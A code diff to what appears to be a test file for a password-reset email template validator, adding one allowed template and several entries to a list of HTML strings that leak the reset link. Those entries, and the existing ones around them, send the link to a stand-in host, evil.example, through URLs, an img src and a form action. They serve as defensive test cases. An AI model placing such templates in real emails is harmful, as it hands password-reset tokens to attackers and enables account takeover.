@@ -8,6 +8,7 @@ from customer_gql.messaging.mail.texts.rules import validate_template_text
 
 RESET = "password_reset"
 ALLOWED_HTML = [
+    '<p>Go to <b>{{ link }}</b> now, or <a href="{{ link }}">{{ link }}</a>.</p>',
     '<p>Hello,</p><p><a href="{{ link }}">Choose</a></p>',
     "<a href='{{ link }}'>Choose</a>",
     "<p>{{ link }}</p>",
@@ -23,6 +24,10 @@ LEAKING_HTML = [
     '<a title="{{ link }}">x</a>',
     "https://evil.example/{{ link }}",
     "{{ firstName }}{{ link }}",
+    "https://evil.example/?<b>{{ link }}</b>",
+    "https://evil.example/?<b></b>{{ link }}",
+    "https://evil.example/<span><i>{{ link }}</i></span>",
+    "<b>{{ link }}</b>.evil.example",
     "<img src='https://evil.example/?x= <p>{{ link }}</p> <i title='x'>",
     "<img src='https://evil.example/?x= {{ link }} ",
     '<form action="https://evil.example"><input value="{{ link }}"></form>',
